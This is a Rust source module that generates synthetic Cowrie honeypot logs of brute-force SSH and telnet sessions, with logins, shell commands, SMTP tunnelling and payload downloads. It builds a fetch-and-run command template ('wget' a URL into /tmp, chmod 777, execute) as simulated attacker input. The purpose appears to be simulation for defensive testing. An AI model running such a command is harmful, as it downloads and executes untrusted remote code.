//! One attack, from its connection to its end.

use chrono::DateTime;
use rand::Rng;
use rand::rngs::StdRng;
use serde_json::{Map, Value, json};

use super::pools::{Attacker, COMMANDS, Pools, Sensor, VARIABLES, digits, pick};

struct Session<'a> {
    pools: &'a Pools,
    rng: &'a mut StdRng,
    attacker: &'a Attacker,
    sensor: &'a Sensor,
    id: String,
    start_us: i64,
    at_us: i64,
    lines: &'a mut Vec<(i64, String)>,
}

/// Logs all records of one attack, with the time of each.
pub(super) fn log(pools: &Pools, rng: &mut StdRng, start_us: i64, lines: &mut Vec<(i64, String)>) {
    let attacker = pick(rng, &pools.attackers);
    let sensor = pick(rng, &pools.sensors);
    let id = digits(rng, 12);
    Session {
        pools,
        rng,
        attacker,
        sensor,
        id,
        start_us,
        at_us: start_us,
        lines,
    }
    .run();
}

impl Session<'_> {
    fn run(mut self) {
        self.connect();
        if !self.attacker.is_telnet {
            self.key_exchange();
        }
        let failures = self.rng.random_range(1..=9);
        for _ in 0..failures {
            self.login("failed");
        }
        if self.rng.random_bool(0.4) {
            self.login("success");
            self.shell();
        }
        self.close();
    }

    fn connect(&mut self) {
        let port = if self.attacker.is_telnet { 2223 } else { 2222 };
        let src_port = self.rng.random_range(1024..=65535);
        self.event(
            "session.connect",
            json!({
                "src_port": src_port, "dst_ip": self.sensor.ip, "dst_port": port,
                "message": format!("New connection: {} [session: {}]", self.attacker.ip, self.id),
            }),
        );
    }

    fn key_exchange(&mut self) {
        let client = &self.pools.clients[self.attacker.client];
        let message = format!("Remote SSH version: {}", client.version);
        self.event(
            "client.version",
            json!({"version": client.version, "message": message}),
        );
        self.event("client.kex", json!({
            "hassh": client.hassh, "kexAlgs": client.kex, "keyAlgs": client.keys, "encCS": client.ciphers,
            "macCS": client.macs, "compCS": ["none"], "langCS": [""],
            "message": format!("SSH client hassh fingerprint: {}", client.hassh),
        }));
    }

    fn login(&mut self, outcome: &str) {
        let username = pick(self.rng, &self.pools.usernames);
        let password = pick(self.rng, &self.pools.passwords);
        let message = format!("login attempt [{username}/{password}] {outcome}");
        let record = json!({"username": username, "password": password, "message": message});
        self.event(&format!("login.{outcome}"), record);
    }

    fn shell(&mut self) {
        if self.rng.random_bool(0.3) {
            let record = json!({"width": 80, "height": 24, "message": "Terminal Size: 80 24"});
            self.event("client.size", record);
        }
        if self.rng.random_bool(0.3) {
            let (name, value) = pick(self.rng, VARIABLES);
            let message = format!("request_env: {name}={value}");
            self.event(
                "client.var",
                json!({"name": name, "value": value, "message": message}),
            );
        }
        if self.rng.random_bool(0.25) {
            return self.tunnel();
        }
        self.event(
            "session.params",
            json!({"arch": "linux-x64-lsb", "message": []}),
        );
        for _ in 0..self.rng.random_range(1..=12) {
            let input = *pick(self.rng, COMMANDS);
            self.event(
                "command.input",
                json!({"input": input, "message": format!("CMD: {input}")}),
            );
            if self.rng.random_bool(0.1) {
                let message = format!("Command not found: {input}");
                self.event(
                    "command.failed",
                    json!({"input": input, "message": message}),
                );
            }
        }
        if self.rng.random_bool(0.5) {
            self.download();
        }
        let ttylog = format!("var/lib/cowrie/tty/{}", self.id);
        let message = format!("Closing TTY Log: {ttylog}");
        let record =
            json!({"ttylog": ttylog, "size": 1024, "duplicate": false, "message": message});
        self.event("log.closed", record);
    }

    fn download(&mut self) {
        let payload = pick(self.rng, &self.pools.payloads);
        let (url, file, sha256) = (&payload.url, &payload.file, &payload.sha256);
        let input = format!("cd /tmp; wget {url}; chmod 777 {file}; ./{file}");
        self.event(
            "command.input",
            json!({"input": input, "message": format!("CMD: {input}")}),
        );
        if self.rng.random_bool(0.2) {
            let message = format!("Attempt to download file(s) from URL ({url}) failed");
            return self.event(
                "session.file_download.failed",
                json!({"url": url, "message": message}),
            );
        }
        self.event("session.file_download", json!({
            "url": url, "outfile": format!("var/lib/cowrie/downloads/{sha256}"), "shasum": sha256,
            "destfile": "", "message": format!("Downloaded URL ({url}) with SHA-256 {sha256}"),
        }));
    }

    /// Logs tunnels through the honeypot to mail and web servers.
    fn tunnel(&mut self) {
        for _ in 0..self.rng.random_range(1..=4) {
            let host = format!("mail{}.victim.example", self.rng.random_range(0..50));
            self.event("direct-tcpip.request", json!({
                "dst_ip": host, "dst_port": 25, "src_port": 0,
                "message": format!("direct-tcp connection request to {host}:25 from 127.0.0.1:0"),
            }));
        }
    }

    fn close(&mut self) {
        let seconds = (self.at_us - self.start_us) as f64 / 1e6;
        let duration = format!("{seconds:.1}");
        let message = format!("Connection lost after {duration} seconds");
        self.event(
            "session.closed",
            json!({"duration": duration, "message": message}),
        );
    }

    /// Logs one record, at some time after the one before.
    fn event(&mut self, eventid: &str, own: Value) {
        let mut record = Map::new();
        record.insert("eventid".to_owned(), format!("cowrie.{eventid}").into());
        if let Value::Object(own) = own {
            record.extend(own);
        }
        let time = DateTime::from_timestamp_micros(self.at_us).expect("a time of this century");
        let protocol = if self.attacker.is_telnet {
            "telnet"
        } else {
            "ssh"
        };
        let common = [
            ("sensor", self.sensor.name.to_owned()),
            (
                "timestamp",
                time.format("%Y-%m-%dT%H:%M:%S%.6fZ").to_string(),
            ),
            ("src_ip", self.attacker.ip.clone()),
            ("session", self.id.clone()),
            ("protocol", protocol.to_owned()),
        ];
        record.extend(common.map(|(field, text)| (field.to_owned(), text.into())));
        self.lines
            .push((self.at_us, Value::Object(record).to_string()));
        self.at_us += self.rng.random_range(20_000..3_000_000);
    }
}
